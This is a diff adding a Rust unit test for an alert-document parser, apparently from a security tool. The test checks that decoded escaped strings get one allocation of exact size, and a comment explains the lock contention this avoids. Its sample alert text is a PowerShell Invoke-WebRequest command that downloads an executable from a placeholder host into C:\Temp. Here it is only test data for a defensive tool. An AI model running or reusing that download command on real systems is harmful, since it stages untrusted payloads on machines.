@@ -230,3 +230,20 @@ proptest! {
         same_as_serde(&text);
     }
 }
+
+#[test]
+fn an_escaped_string_is_allocated_once_at_its_length_not_grown_with_realloc() {
+    // Growing a decoded string in place was a `realloc` per long escaped string: glibc serves
+    // those under its arena lock, and the forwarder's threads reading pages at once queued on
+    // it (7x the context switches, a 20 % slower replay). Decoded in a scratch buffer and copied
+    // out, each is one allocation of its exact size.
+    let long = r#"powershell.exe -c \"Invoke-WebRequest -Uri 'http://x.example/a?b=c' -OutFile C:\\Temp\\p.exe\"; \u00e9"#.repeat(8);
+    let text = format!(r#"{{"id":"a","description":"{long}","title":"short \n one"}}"#);
+    let alert = alert_document(&text).expect("read by the fast path");
+    for field in [&alert.description, &alert.title] {
+        let Some(crate::alert::Str(std::borrow::Cow::Owned(s))) = field else {
+            panic!("an escaped string is owned: {field:?}");
+        };
+        assert_eq!(s.capacity(), s.len(), "{s:?}");
+    }
+}
